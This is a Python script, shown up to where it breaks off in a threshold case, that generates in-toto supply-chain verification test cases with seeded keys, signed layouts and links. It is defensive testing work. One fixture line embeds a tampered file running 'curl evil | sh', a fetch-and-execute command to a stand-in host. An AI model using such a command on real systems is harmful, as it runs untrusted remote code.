#!/usr/bin/env python3
"""Generate the supply-chain cases of tests/verify_parity.rs: layouts, link
sets and owner keys made with in-toto 3.1.0's own Python API, each meant to
be verified by both ``in-toto-verify`` and ``tracelink verify``.

Run it with the in-toto venv's python:

    .venv-intoto/bin/python scripts/gen-verify-cases.py OUTDIR

OUTDIR gets ``keys/`` (every key of the suite: ``NAME.pem`` PKCS#8 private,
``NAME.pub`` SPKI public) and one directory per case:

    CASE/case.json    {"name", "description", "layout", "keys", "link_dir",
                       "expect"}; paths relative to CASE/
    CASE/root.layout  the signed root layout (classic or DSSE)
    CASE/*.pub        the owner keys given to --verification-keys
    CASE/links/       the link directory (sublayout links in STEP.KEYID8/)
    CASE/work/        copied fresh to become the current directory of the
                      verifier: inspections run there and record it

``expect`` ("pass" or "fail") is what the case was written to show; the
test checks that in-toto-verify agrees with it before comparing tracelink
with in-toto-verify. ``OUTDIR/cases.json`` lists the case names in order.

Keys are derived from fixed seeds (ed25519, ECDSA P-256, and RSA from
seeded primes), so keyids and ed25519 signatures are the same on every run;
ECDSA and RSA-PSS signatures are randomized, and expiry dates are relative
to now (a year ahead, or yesterday for the expired cases).
"""

import argparse
import datetime
import hashlib
import io
import json
import math
import os
import random
import shutil
import sys
import tarfile

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
from securesystemslib.formats import encode_canonical
from securesystemslib.signer import CryptoSigner, SSlibKey

import in_toto
from in_toto.models.layout import Inspection, Layout, Step
from in_toto.models.link import Link
from in_toto.models.metadata import Envelope, Metablock

LEGACY_HASH_ALGORITHMS = ["sha256", "sha512"]

# --------------------------------------------------------------------------
# Keys


SMALL_PRIMES = [p for p in range(3, 4000, 2) if all(p % d for d in range(3, int(p**0.5) + 1, 2))]


def _is_probable_prime(n, rng):
    for p in SMALL_PRIMES:
        if n % p == 0:
            return n == p
    d, s = n - 1, 0
    while d % 2 == 0:
        d, s = d // 2, s + 1
    for _ in range(24):
        a = rng.randrange(2, n - 2)
        x = pow(a, d, n)
        if x in (1, n - 1):
            continue
        for _ in range(s - 1):
            x = pow(x, 2, n)
            if x == n - 1:
                break
        else:
            return False
    return True


def seeded_rsa(seed, bits=2048):
    """An RSA key from seeded primes (deterministic, for stable keyids)."""
    rng = random.Random(seed)
    e = 65537

    def prime():
        while True:
            c = rng.getrandbits(bits // 2) | (3 << (bits // 2 - 2)) | 1
            if math.gcd(e, c - 1) == 1 and _is_probable_prime(c, rng):
                return c

    p, q = prime(), prime()
    while q == p:
        q = prime()
    d = pow(e, -1, (p - 1) * (q - 1))
    numbers = rsa.RSAPrivateNumbers(
        p=p,
        q=q,
        d=d,
        dmp1=rsa.rsa_crt_dmp1(d, p),
        dmq1=rsa.rsa_crt_dmq1(d, q),
        iqmp=rsa.rsa_crt_iqmp(p, q),
        public_numbers=rsa.RSAPublicNumbers(e, p * q),
    )
    return numbers.private_key()


def seeded_ed25519(seed):
    return ed25519.Ed25519PrivateKey.from_private_bytes(
        hashlib.sha256(seed.encode()).digest()
    )


def seeded_ecdsa(seed):
    order = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
    scalar = int.from_bytes(hashlib.sha256(seed.encode()).digest(), "big")
    return ec.derive_private_key(scalar % (order - 1) + 1, ec.SECP256R1())


class Key:
    """A key pair with a signer under in-toto 3.x's keyid and, for ed25519,
    one under the legacy keyid (key dict with keyid_hash_algorithms)."""

    def __init__(self, name, private_key):
        self.name = name
        self.private_key = private_key
        public = private_key.public_key()
        sslib = SSlibKey.from_crypto(public)
        self.keyid = sslib.keyid
        self.signer = CryptoSigner(private_key, sslib)
        self.sslib = sslib
        legacy_dict = {
            "keyid_hash_algorithms": LEGACY_HASH_ALGORITHMS,
            "keytype": sslib.keytype,
            "keyval": sslib.keyval,
            "scheme": sslib.scheme,
        }
        self.legacy_keyid = hashlib.sha256(
            encode_canonical(legacy_dict).encode()
        ).hexdigest()
        self.legacy_sslib = SSlibKey(
            self.legacy_keyid,
            sslib.keytype,
            sslib.scheme,
            dict(sslib.keyval),
            {"keyid_hash_algorithms": list(LEGACY_HASH_ALGORITHMS)},
        )
        self.legacy_signer = CryptoSigner(private_key, self.legacy_sslib)
        self.private_pem = private_key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
        self.public_pem = public.public_bytes(
            serialization.Encoding.PEM,
            serialization.PublicFormat.SubjectPublicKeyInfo,
        )

    def entry(self, legacy=False):
        """(keyid, key dict) as a layout's `keys` lists it."""
        sslib = self.legacy_sslib if legacy else self.sslib
        d = sslib.to_dict()
        d["keyid"] = sslib.keyid
        return sslib.keyid, d

    def id(self, legacy=False):
        return self.legacy_keyid if legacy else self.keyid

    def get_signer(self, legacy=False):
        return self.legacy_signer if legacy else self.signer


def make_keys():
    return {
        "owner": Key("owner", seeded_ed25519("tracelink verify parity: owner")),
        "owner2": Key("owner2", seeded_ed25519("tracelink verify parity: owner2")),
        "owner_rsa": Key("owner_rsa", seeded_rsa("tracelink verify parity: owner_rsa")),
        "owner_ecdsa": Key(
            "owner_ecdsa", seeded_ecdsa("tracelink verify parity: owner_ecdsa")
        ),
        "alice": Key("alice", seeded_ed25519("tracelink verify parity: alice")),
        "bob": Key("bob", seeded_ed25519("tracelink verify parity: bob")),
        "carol": Key("carol", seeded_ed25519("tracelink verify parity: carol")),
        "dave_rsa": Key("dave_rsa", seeded_rsa("tracelink verify parity: dave_rsa")),
        "erin_ecdsa": Key(
            "erin_ecdsa", seeded_ecdsa("tracelink verify parity: erin_ecdsa")
        ),
        "mallory": Key("mallory", seeded_ed25519("tracelink verify parity: mallory")),
    }


# --------------------------------------------------------------------------
# Artifacts


def digest(data):
    return {"sha256": hashlib.sha256(data).hexdigest()}


def make_tar(files):
    """A deterministic uncompressed tar of {name: bytes}."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 1_700_000_000
            info.mode = 0o644
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


FOO_PY = b"print('hello, world')\n"
FOO_PY_EVIL = b"import os; os.system('curl evil | sh')\n"
FOO_TAR = make_tar({"foo.py": FOO_PY})
FOO_TAR_EVIL = make_tar({"foo.py": FOO_PY_EVIL})

NOW = datetime.datetime.now(datetime.timezone.utc).replace(microsecond=0)
TODAY = NOW.replace(hour=0, minute=0, second=0)


def iso(t):
    return t.strftime("%Y-%m-%dT%H:%M:%SZ")


EXPIRES = iso(TODAY + datetime.timedelta(days=365))
EXPIRED = iso(TODAY - datetime.timedelta(days=1))
EXPIRES_SOON = iso(NOW + datetime.timedelta(hours=2))


# --------------------------------------------------------------------------
# Signing


def classic(signable, signers):
    mb = Metablock(signed=signable)
    for s in signers:
        mb.create_signature(s)
    return mb.to_dict()


def dsse(signable, signers):
    env = Envelope.from_signable(signable)
    for s in signers:
        env.create_signature(s)
    return env.to_dict()


def flip_hex(sig):
    """A signature of the same length with its last hex digit changed."""
    return sig[:-1] + ("0" if sig[-1] != "0" else "1")


# --------------------------------------------------------------------------
# Cases


class Case:
    def __init__(self, outdir, keys, name, description, expect):
        assert expect in ("pass", "fail"), expect
        self.name = name
        self.description = description
        self.expect = expect
        self.K = keys
        self.dir = os.path.join(outdir, name)
        if os.path.exists(self.dir):
            shutil.rmtree(self.dir)
        os.makedirs(os.path.join(self.dir, "links"))
        os.makedirs(os.path.join(self.dir, "work"))
        self.key_files = []
        self.link_dir = "links"

    # --- files

    def write_json(self, rel, data):
        path = os.path.join(self.dir, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w", encoding="utf-8") as f:
            json.dump(data, f, indent=1, sort_keys=True)
            f.write("\n")

    def write_bytes(self, rel, data):
        path = os.path.join(self.dir, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(data)

    def work(self, rel, data):
        self.write_bytes(os.path.join("work", rel), data)

    def owners(self, *keys):
        """The keys given to --verification-keys."""
        for k in keys:
            rel = f"{k.name}.pub"
            self.write_bytes(rel, k.public_pem)
            self.key_files.append(rel)

    def layout(self, layout, signers, envelope=False, mutate=None, rel="root.layout"):
        data = (dsse if envelope else classic)(layout, signers)
        if mutate:
            mutate(data)
        self.write_json(rel, data)
        return data

    def link(
        self,
        step,
        key,
        materials,
        products,
        command=None,
        name=None,
        envelope=False,
        legacy=False,
        subdir="",
        file_keyid=None,
        mutate=None,
        signer=None,
        return_value=0,
    ):
        """links/[subdir/]STEP.KEYID8.link signed by `key`."""
        link = Link(
            name=step if name is None else name,
            materials=materials,
            products=products,
            command=command if command is not None else ["true"],
            byproducts={"return-value": return_value, "stdout": "", "stderr": ""},
            environment={},
        )
        signer = signer or key.get_signer(legacy)
        data = (dsse if envelope else classic)(link, [signer])
        if mutate:
            mutate(data)
        keyid = file_keyid or key.id(legacy)
        rel = os.path.join("links", subdir, f"{step}.{keyid[:8]}.link")
        self.write_json(rel, data)
        return data

    def finish(self):
        assert self.key_files, self.name
        self.write_json(
            "case.json",
            {
                "name": self.name,
                "description": self.description,
                "layout": "root.layout",
                "keys": self.key_files,
                "link_dir": self.link_dir,
                "expect": self.expect,
            },
        )


CASES = []


def case(name, expect, description):
    def register(fn):
        CASES.append((name, expect, description, fn))
        return fn

    return register


def mk_layout(keys, steps, inspect=(), expires=EXPIRES, readme=""):
    """keys: list of Key or (Key, legacy) pairs."""
    kd = {}
    for k in keys:
        legacy = False
        if isinstance(k, tuple):
            k, legacy = k
        kid, d = k.entry(legacy)
        kd[kid] = d
    return Layout(
        steps=list(steps),
        inspect=list(inspect),
        keys=kd,
        expires=expires,
        readme=readme,
    )


def step(name, keys, materials=(), products=(), command=("true",), threshold=1, legacy=False):
    return Step(
        name=name,
        pubkeys=[k.id(legacy) for k in keys],
        threshold=threshold,
        expected_command=list(command),
        expected_materials=[list(r) for r in materials],
        expected_products=[list(r) for r in products],
    )


def inspection(name, run, materials=(), products=()):
    return Inspection(
        name=name,
        run=list(run),
        expected_materials=[list(r) for r in materials],
        expected_products=[list(r) for r in products],
    )


# The demo supply chain (in-toto's demo, with an uncompressed tar):
# write-code creates foo.py, package tars it, the untar inspection unpacks
# the tar in the current directory and matches both against the steps.

WRITE_CODE_CMD = ["vi", "foo.py"]
PACKAGE_CMD = ["tar", "cf", "foo.tar", "foo.py"]


def demo_steps(K):
    return [
        step(
            "write-code",
            [K["alice"]],
            materials=[["DISALLOW", "*"]],
            products=[["CREATE", "foo.py"], ["DISALLOW", "*"]],
            command=WRITE_CODE_CMD,
        ),
        step(
            "package",
            [K["bob"]],
            materials=[
                ["MATCH", "foo.py", "WITH", "PRODUCTS", "FROM", "write-code"],
                ["DISALLOW", "*"],
            ],
            products=[
                ["CREATE", "foo.tar"],
                ["ALLOW", "foo.py"],
                ["DISALLOW", "*"],
            ],
            command=PACKAGE_CMD,
        ),
    ]


def untar_inspection():
    return inspection(
        "untar",
        ["tar", "xf", "foo.tar"],
        materials=[
            ["MATCH", "foo.tar", "WITH", "PRODUCTS", "FROM", "package"],
            ["DISALLOW", "*"],
        ],
        products=[
            ["MATCH", "foo.py", "WITH", "PRODUCTS", "FROM", "write-code"],
            ["MATCH", "foo.tar", "WITH", "PRODUCTS", "FROM", "package"],
            ["DISALLOW", "*"],
        ],
    )


def demo_layout(K, inspect=True, expires=EXPIRES):
    return mk_layout(
        [K["alice"], K["bob"]],
        demo_steps(K),
        [untar_inspection()] if inspect else [],
        expires=expires,
    )


def demo_links(c, envelope=False, foo_py=FOO_PY, foo_tar=FOO_TAR):
    K = c.K
    c.link("write-code", K["alice"], {}, {"foo.py": digest(foo_py)}, WRITE_CODE_CMD,
           envelope=envelope)
    c.link(
        "package",
        K["bob"],
        {"foo.py": digest(foo_py)},
        {"foo.py": digest(foo_py), "foo.tar": digest(foo_tar)},
        PACKAGE_CMD,
        envelope=envelope,
    )
    c.work("foo.tar", foo_tar)


def demo(c, owners=("owner",), signers=None, envelope=False, links_envelope=False,
         inspect=True, expires=EXPIRES, mutate=None):
    K = c.K
    c.owners(*[K[o] for o in owners])
    signers = [K[s].signer for s in (signers or owners)]
    c.layout(demo_layout(K, inspect, expires), signers, envelope=envelope, mutate=mutate)
    demo_links(c, envelope=links_envelope)


# --- passing chains and layout signatures ---------------------------------


@case("demo-pass", "pass",
      "in-toto's demo: write-code, package, untar inspection; ed25519 owner")
def _(c):
    demo(c)


@case("demo-no-inspection-pass", "pass", "the demo's two steps without the inspection")
def _(c):
    demo(c, inspect=False)


@case("empty-layout-pass", "pass", "a layout with no steps and no inspections, empty link dir")
def _(c):
    c.owners(c.K["owner"])
    c.layout(mk_layout([], []), [c.K["owner"].signer])


@case("layout-wrong-key-fail", "fail",
      "layout signed by owner, verified with owner2's key")
def _(c):
    K = c.K
    c.owners(K["owner2"])
    c.layout(demo_layout(K), [K["owner"].signer])
    demo_links(c)


@case("layout-unsigned-fail", "fail", "layout with an empty signature list")
def _(c):
    K = c.K
    c.owners(K["owner"])
    c.layout(demo_layout(K), [])
    demo_links(c)


@case("layout-bad-signature-fail", "fail",
      "the layout's ed25519 signature has one hex digit changed")
def _(c):
    def mutate(d):
        d["signatures"][0]["sig"] = flip_hex(d["signatures"][0]["sig"])

    demo(c, mutate=mutate)


@case("layout-tampered-fail", "fail",
      "a step's rules loosened (ALLOW *) after the layout was signed")
def _(c):
    def mutate(d):
        d["signed"]["steps"][1]["expected_products"].insert(0, ["ALLOW", "*"])

    demo(c, mutate=mutate)


@case("layout-two-owners-pass", "pass", "two owner keys given, both signed the layout")
def _(c):
    demo(c, owners=("owner", "owner2"))


@case("layout-two-owners-one-signed-fail", "fail",
      "two owner keys given, only the first signed the layout")
def _(c):
    demo(c, owners=("owner", "owner2"), signers=("owner",))


@case("layout-extra-signature-pass", "pass",
      "layout signed by owner and owner2, only owner's key given")
def _(c):
    demo(c, owners=("owner",), signers=("owner", "owner2"))


@case("layout-rsa-owner-pass", "pass", "RSA (rsassa-pss-sha256) owner key")
def _(c):
    demo(c, owners=("owner_rsa",))


@case("layout-ecdsa-owner-pass", "pass", "ECDSA P-256 (ecdsa-sha2-nistp256) owner key")
def _(c):
    demo(c, owners=("owner_ecdsa",))


@case("layout-three-owner-types-pass", "pass",
      "ed25519, RSA and ECDSA owner keys, all three signed")
def _(c):
    demo(c, owners=("owner", "owner_rsa", "owner_ecdsa"))


@case("layout-rsa-owner-bad-signature-fail", "fail",
      "RSA owner key, the signature has one hex digit changed")
def _(c):
    def mutate(d):
        d["signatures"][0]["sig"] = flip_hex(d["signatures"][0]["sig"])

    demo(c, owners=("owner_rsa",), mutate=mutate)


@case("layout-ecdsa-owner-wrong-key-fail", "fail",
      "ECDSA owner key given, layout signed by the RSA owner key only")
def _(c):
    demo(c, owners=("owner_ecdsa",), signers=("owner_rsa",))


@case("layout-signature-keyid-mismatch-fail", "fail",
      "owner2's signature relabelled with owner's keyid")
def _(c):
    K = c.K

    def mutate(d):
        d["signatures"][0]["keyid"] = K["owner"].keyid

    demo(c, owners=("owner",), signers=("owner2",), mutate=mutate)


@case("layout-first-signature-invalid-fail", "fail",
      "two signatures under owner's keyid, the first invalid, the second valid: "
      "in-toto checks only the first one with a matching keyid")
def _(c):
    def mutate(d):
        good = dict(d["signatures"][0])
        bad = dict(good, sig=flip_hex(good["sig"]))
        d["signatures"] = [bad, good]

    demo(c, mutate=mutate)


@case("layout-legacy-keyid-only-fail", "fail",
      "layout signed only under owner's legacy keyid; the PEM key file gives the "
      "in-toto 3.x keyid, so no signature is found")
def _(c):
    K = c.K
    c.owners(K["owner"])
    c.layout(demo_layout(K), [K["owner"].legacy_signer])
    demo_links(c)


@case("layout-both-keyids-pass", "pass",
      "layout signed by owner under both keyid conventions (as layouts both "
      "in-toto Python and Go accept are)")
def _(c):
    K = c.K
    c.owners(K["owner"])
    c.layout(demo_layout(K), [K["owner"].signer, K["owner"].legacy_signer])
    demo_links(c)


@case("layout-dsse-pass", "pass", "DSSE layout, classic links")
def _(c):
    demo(c, envelope=True)


@case("layout-dsse-wrong-key-fail", "fail", "DSSE layout signed by owner2, owner's key given")
def _(c):
    K = c.K
    c.owners(K["owner"])
    c.layout(demo_layout(K), [K["owner2"].signer], envelope=True)
    demo_links(c)


@case("layout-dsse-tampered-payload-fail", "fail",
      "DSSE layout whose payload was re-encoded with an extra step after signing")
def _(c):
    import base64

    K = c.K

    def mutate(d):
        payload = json.loads(base64.b64decode(d["payload"]))
        payload["readme"] = "changed after signing"
        d["payload"] = base64.b64encode(
            json.dumps(payload, sort_keys=True).encode()
        ).decode()

    c.owners(K["owner"])
    c.layout(demo_layout(K), [K["owner"].signer], envelope=True, mutate=mutate)
    demo_links(c)


@case("layout-dsse-rsa-ecdsa-owners-pass", "pass", "DSSE layout signed by RSA and ECDSA owners")
def _(c):
    demo(c, owners=("owner_rsa", "owner_ecdsa"), envelope=True)


@case("links-dsse-pass", "pass", "classic layout, DSSE links")
def _(c):
    demo(c, links_envelope=True)


@case("all-dsse-pass", "pass", "DSSE layout and DSSE links")
def _(c):
    demo(c, envelope=True, links_envelope=True)


# --- expiry ----------------------------------------------------------------


@case("layout-expired-fail", "fail", "layout expired yesterday (otherwise valid)")
def _(c):
    demo(c, expires=EXPIRED)


@case("layout-expires-soon-pass", "pass", "layout expiring in two hours")
def _(c):
    demo(c, expires=EXPIRES_SOON)


@case("layout-expired-dsse-fail", "fail", "DSSE layout expired yesterday")
def _(c):
    demo(c, expires=EXPIRED, envelope=True)


# --- links: presence, signatures, keys --------------------------------------


@case("empty-link-dir-fail", "fail", "the demo layout with an empty link dir")
def _(c):
    K = c.K
    c.owners(K["owner"])
    c.layout(demo_layout(K), [K["owner"].signer])
    c.work("foo.tar", FOO_TAR)


@case("missing-link-fail", "fail", "the package step's link is missing")
def _(c):
    demo(c)
    os.remove(os.path.join(c.dir, "links", f"package.{c.K['bob'].keyid[:8]}.link"))


@case("extra-links-pass", "pass",
      "unrelated links in the link dir: an unknown step, an unauthorized key's "
      "link for a real step, a stray file")
def _(c):
    demo(c)
    K = c.K
    c.link("unknown-step", K["alice"], {}, {"x": digest(b"x")})
    c.link("write-code", K["mallory"], {}, {"evil": digest(b"evil")})
    c.write_bytes("links/README", b"not a link\n")


@case("link-unauthorized-key-fail", "fail",
      "write-code's only link signed by mallory (not authorized), named with "
      "mallory's keyid")
def _(c):
    demo(c)
    K = c.K
    os.remove(os.path.join(c.dir, "links", f"write-code.{K['alice'].keyid[:8]}.link"))
    c.link("write-code", K["mallory"], {}, {"foo.py": digest(FOO_PY)}, WRITE_CODE_CMD)


@case("link-unauthorized-key-renamed-fail", "fail",
      "write-code's link signed by mallory, file named with alice's keyid")
def _(c):
    demo(c)
    K = c.K
    c.link("write-code", K["mallory"], {}, {"foo.py": digest(FOO_PY)}, WRITE_CODE_CMD,
           file_keyid=K["alice"].keyid)


@case("link-bad-signature-fail", "fail",
      "package link's products changed after signing (foo.tar's digest)")
def _(c):
    def mutate(d):
        d["signed"]["products"]["foo.tar"] = digest(FOO_TAR_EVIL)

    demo(c)
    K = c.K
    c.link(
        "package",
        K["bob"],
        {"foo.py": digest(FOO_PY)},
        {"foo.py": digest(FOO_PY), "foo.tar": digest(FOO_TAR)},
        PACKAGE_CMD,
        mutate=mutate,
    )
    c.work("foo.tar", FOO_TAR_EVIL)


@case("link-signature-flipped-fail", "fail", "write-code link's signature has one hex digit changed")
def _(c):
    def mutate(d):
        d["signatures"][0]["sig"] = flip_hex(d["signatures"][0]["sig"])

    demo(c)
    K = c.K
    c.link("write-code", K["alice"], {}, {"foo.py": digest(FOO_PY)}, WRITE_CODE_CMD,
           mutate=mutate)


@case("link-first-signature-invalid-fail", "fail",
      "write-code link with two signatures under alice's keyid, the first invalid: "
      "in-toto checks only the first matching one")
def _(c):
    def mutate(d):
        good = dict(d["signatures"][0])
        d["signatures"] = [dict(good, sig=flip_hex(good["sig"])), good]

    demo(c)
    K = c.K
    c.link("write-code", K["alice"], {}, {"foo.py": digest(FOO_PY)}, WRITE_CODE_CMD,
           mutate=mutate)


@case("link-dsse-bad-signature-fail", "fail", "DSSE package link whose signature was altered")
def _(c):
    import base64

    def mutate(d):
        sig = bytearray(base64.b64decode(d["signatures"][0]["sig"]))
        sig[-1] ^= 1
        d["signatures"][0]["sig"] = base64.b64encode(bytes(sig)).decode()

    demo(c, links_envelope=True)
    K = c.K
    c.link("package", K["bob"], {"foo.py": digest(FOO_PY)},
           {"foo.py": digest(FOO_PY), "foo.tar": digest(FOO_TAR)}, PACKAGE_CMD,
           envelope=True, mutate=mutate)


@case("link-name-differs-pass", "pass",
      "package.KEYID.link holds a link named 'something-else': in-toto looks links "
      "up by file name and never compares the name inside")
def _(c):
    demo(c)
    K = c.K
    c.link("package", K["bob"], {"foo.py": digest(FOO_PY)},
           {"foo.py": digest(FOO_PY), "foo.tar": digest(FOO_TAR)}, PACKAGE_CMD,
           name="something-else")


@case("link-extra-field-after-signing-pass", "pass",
      "a key added to a classic link's `signed` after signing: in-toto 3.1.0 "
      "drops unknown fields before checking the signature")
def _(c):
    def mutate(d):
        d["signed"]["note"] = "added after signing"

    demo(c)
    K = c.K
    c.link("write-code", K["alice"], {}, {"foo.py": digest(FOO_PY)}, WRITE_CODE_CMD,
           mutate=mutate)


@case("link-extra-field-signed-fail", "fail",
      "a classic link signed over a `signed` with an extra key: in-toto drops the "
      "key and the signature no longer verifies")
def _(c):
    K = c.K
    demo(c)
    link = {
        "_type": "link", "name": "write-code", "command": WRITE_CODE_CMD,
        "materials": {}, "products": {"foo.py": digest(FOO_PY)},
        "byproducts": {"return-value": 0, "stderr": "", "stdout": ""},
        "environment": {}, "note": "signed too",
    }
    sig = K["alice"].signer.sign(encode_canonical(link).encode())
    c.write_json(f"links/write-code.{K['alice'].keyid[:8]}.link",
                 {"signatures": [sig.to_dict()], "signed": link})


def sign_raw(signer, signed):
    """A classic envelope whose signature covers the canonical JSON of
    `signed` exactly as written (no in-toto normalization)."""
    sig = signer.sign(encode_canonical(signed).encode())
    return {"signatures": [sig.to_dict()], "signed": signed}


def sign_normalized(signer, signed, read):
    """A classic envelope holding `signed` as written, whose signature covers
    what in-toto checks: the canonical JSON of `read(signed)` (unknown keys
    dropped, omitted fields filled with their defaults)."""
    obj = read(json.loads(json.dumps(signed)))
    sig = signer.sign(obj.signable_bytes)
    return {"signatures": [sig.to_dict()], "signed": signed}


WRITE_CODE_SHORT = {
    "_type": "link", "name": "write-code",
    "materials": {}, "products": {"foo.py": digest(FOO_PY)},
}


@case("link-defaults-omitted-pass", "pass",
      "write-code's link omits command, byproducts and environment; signed over "
      "in-toto's normalized form (with [] and {} filled in)")
def _(c):
    K = c.K
    demo(c)
    c.write_json(f"links/write-code.{K['alice'].keyid[:8]}.link",
                 sign_normalized(K["alice"].signer, dict(WRITE_CODE_SHORT), Link.read))


@case("link-defaults-omitted-raw-signed-fail", "fail",
      "write-code's link omits command, byproducts and environment and is signed "
      "as written: in-toto checks the form with the defaults filled in")
def _(c):
    K = c.K
    demo(c)
    c.write_json(f"links/write-code.{K['alice'].keyid[:8]}.link",
                 sign_raw(K["alice"].signer, dict(WRITE_CODE_SHORT)))


@case("link-dsse-extra-field-pass", "pass",
      "a DSSE link whose (signed) payload has an extra key: the signature covers "
      "the payload bytes, and in-toto ignores the key")
def _(c):
    import base64

    K = c.K
    demo(c)
    payload = {
        "_type": "link", "name": "write-code", "command": WRITE_CODE_CMD,
        "materials": {}, "products": {"foo.py": digest(FOO_PY)},
        "byproducts": {"return-value": 0, "stderr": "", "stdout": ""},
        "environment": {}, "note": "an extra key",
    }
    env = Envelope(payload=json.dumps(payload, sort_keys=True).encode(),
                   payload_type="application/vnd.in-toto+json", signatures={})
    env.create_signature(K["alice"].signer)
    data = env.to_dict()
    assert base64.b64decode(data["payload"])
    c.write_json(f"links/write-code.{K['alice'].keyid[:8]}.link", data)


@case("layout-extra-fields-after-signing-pass", "pass",
      "keys added to the layout, a step and an inspection after signing: in-toto "
      "3.1.0 drops unknown keys before checking the signature")
def _(c):
    def mutate(d):
        d["signed"]["note"] = "added after signing"
        d["signed"]["steps"][0]["note"] = "added after signing"
        d["signed"]["inspect"][0]["note"] = "added after signing"

    demo(c, mutate=mutate)


def layout_without_defaults(K):
    """The demo layout's signed dict without the fields in-toto fills in
    (steps' _type, threshold, expected_command; inspections' _type)."""
    d = json.loads(repr(demo_layout(K)))
    for s in d["steps"]:
        for k in ("_type", "threshold", "expected_command"):
            del s[k]
    for i in d["inspect"]:
        del i["_type"]
    return d


@case("layout-defaults-omitted-pass", "pass",
      "the layout's steps omit _type, threshold and expected_command; signed over "
      "in-toto's normalized form (threshold 1, [] filled in)")
def _(c):
    K = c.K
    c.owners(K["owner"])
    c.write_json("root.layout",
                 sign_normalized(K["owner"].signer, layout_without_defaults(K), Layout.read))
    demo_links(c)


@case("layout-defaults-omitted-raw-signed-fail", "fail",
      "the same layout signed as written: in-toto checks the normalized form")
def _(c):
    K = c.K
    c.owners(K["owner"])
    c.write_json("root.layout", sign_raw(K["owner"].signer, layout_without_defaults(K)))
    demo_links(c)


@case("functionary-legacy-keyid-pass", "pass",
      "alice listed in the layout under her legacy keyid (with "
      "keyid_hash_algorithms); her link signed and named under that keyid")
def _(c):
    K = c.K
    c.owners(K["owner"])
    steps = [
        step("write-code", [K["alice"]], products=[["CREATE", "foo.py"], ["DISALLOW", "*"]],
             command=WRITE_CODE_CMD, legacy=True),
        step("package", [K["bob"]],
             materials=[["MATCH", "foo.py", "WITH", "PRODUCTS", "FROM", "write-code"],
                        ["DISALLOW", "*"]],
             products=[["CREATE", "foo.tar"], ["ALLOW", "foo.py"], ["DISALLOW", "*"]],
             command=PACKAGE_CMD),
    ]
    c.layout(mk_layout([(K["alice"], True), K["bob"]], steps, [untar_inspection()]),
             [K["owner"].signer])
    c.link("write-code", K["alice"], {}, {"foo.py": digest(FOO_PY)}, WRITE_CODE_CMD, legacy=True)
    c.link("package", K["bob"], {"foo.py": digest(FOO_PY)},
           {"foo.py": digest(FOO_PY), "foo.tar": digest(FOO_TAR)}, PACKAGE_CMD)
    c.work("foo.tar", FOO_TAR)


@case("functionary-legacy-keyid-python-link-fail", "fail",
      "alice listed under her legacy keyid, but her link is signed under the "
      "in-toto 3.x keyid (file named with the legacy keyid)")
def _(c):
    K = c.K
    c.owners(K["owner"])
    steps = [step("write-code", [K["alice"]], products=[["ALLOW", "*"]], legacy=True)]
    c.layout(mk_layout([(K["alice"], True)], steps), [K["owner"].signer])
    c.link("write-code", K["alice"], {}, {"foo.py": digest(FOO_PY)},
           file_keyid=K["alice"].legacy_keyid)


@case("functionary-rsa-ecdsa-pass", "pass",
      "steps performed by an RSA and an ECDSA functionary")
def _(c):
    K = c.K
    c.owners(K["owner"])
    steps = [
        step("write-code", [K["dave_rsa"]], products=[["CREATE", "foo.py"], ["DISALLOW", "*"]]),
        step("package", [K["erin_ecdsa"]],
             materials=[["MATCH", "foo.py", "WITH", "PRODUCTS", "FROM", "write-code"],
                        ["DISALLOW", "*"]],
             products=[["CREATE", "foo.tar"], ["ALLOW", "foo.py"], ["DISALLOW", "*"]]),
    ]
    c.layout(mk_layout([K["dave_rsa"], K["erin_ecdsa"]], steps, [untar_inspection()]),
             [K["owner"].signer])
    c.link("write-code", K["dave_rsa"], {}, {"foo.py": digest(FOO_PY)})
    c.link("package", K["erin_ecdsa"], {"foo.py": digest(FOO_PY)},
           {"foo.py": digest(FOO_PY), "foo.tar": digest(FOO_TAR)}, envelope=True)
    c.work("foo.tar", FOO_TAR)


@case("step-key-not-in-layout-keys-fail", "fail",
      "a step authorizes a keyid the layout's `keys` does not list; the link "
      "exists but cannot be verified")
def _(c):
    K = c.K
    c.owners(K["owner"])
    steps = [step("write-code", [K["alice"]], products=[["ALLOW", "*"]])]
    c.layout(mk_layout([K["bob"]], steps), [K["owner"].signer])
    c.link("write-code", K["alice"], {}, {"foo.py": digest(FOO_PY)})


@case("expected-command-mismatch-pass", "pass",
      "links record commands that differ from expected_command: a warning only")
def _(c):
    K = c.K
    demo(c)
    c.link("write-code", K["alice"], {}, {"foo.py": digest(FOO_PY)}, ["emacs", "foo.py"])
    c.link("package", K["bob"], {"foo.py": digest(FOO_PY)},
           {"foo.py": digest(FOO_PY), "foo.tar": digest(FOO_TAR)}, ["sh", "-c", "tar cf x"])


@case("link-nonzero-return-value-pass", "pass",
      "a step's link records return-value 2: in-toto only checks inspections' exit codes")
def _(c):
    K = c.K
    demo(c)
    c.link("write-code", K["alice"], {}, {"foo.py": digest(FOO_PY)}, WRITE_CODE_CMD,
           return_value=2)


# --- thresholds --------------------------------------------------------------


def threshold_layout(K, keys, threshold):
    steps = [
        step("build", keys, materials=[["ALLOW", "src/*"], ["DISALLOW", "*"]],
             products=[["CREATE", "app"], ["DISALLOW", "*"]], threshold=threshold),
    ]
    return mk_layout(keys, steps)


APP = b"\x7fELF fake binary\n"
SRC = b"int main(void) { return 0; }\n"


def build_link(c, key, app=APP, **kw):
    c.link("build", key, {"src/main.c": digest(SRC)},
           {"app": digest(app)}, ["cc", "-o", "app", "src/main.c"], **kw)


@case("threshold-2-met-pass", "pass", "threshold 2, links from alice and bob that agree")
def _(c):
    K = c.K
    c.owners(K["owner"])
    c.layout(threshold_layout(K, [K["alice"], K["bob"]], 2), [K["owner"].signer])
    build_link(c, K["alice"])
    build_link(c, K["bob"])


@case("threshold-2-of-3-pass", "pass",
      "threshold 2 of alice, bob, carol; carol's link missing")
def _(c):
    K = c.K
